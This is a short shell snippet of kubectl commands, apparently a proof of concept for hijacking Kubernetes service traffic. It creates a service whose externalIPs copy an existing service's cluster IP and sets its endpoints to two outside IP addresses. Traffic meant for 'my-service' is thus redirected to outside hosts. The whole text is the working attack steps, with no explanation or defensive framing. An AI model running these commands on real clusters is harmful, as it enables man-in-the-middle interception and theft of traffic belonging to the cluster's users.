ip=$(kubectl get service my-service -o jsonpath='{.spec.clusterIP}')
kubectl create service clusterip other --tcp=80
kubectl patch service other --type=json -p '[{"op": "remove", "path": "/spec/selector"}, {"op": "add", "path": "/spec/externalIPs", "value": ["'$ip'"]}]'
kubectl apply -f - <<END
apiVersion: v1
kind: Endpoints
metadata: {name: other}
subsets: [{addresses: [{ip: 223.130.195.200}, {ip: 199.201.110.204}], ports: [{name: "80", port: 80}]}]
END
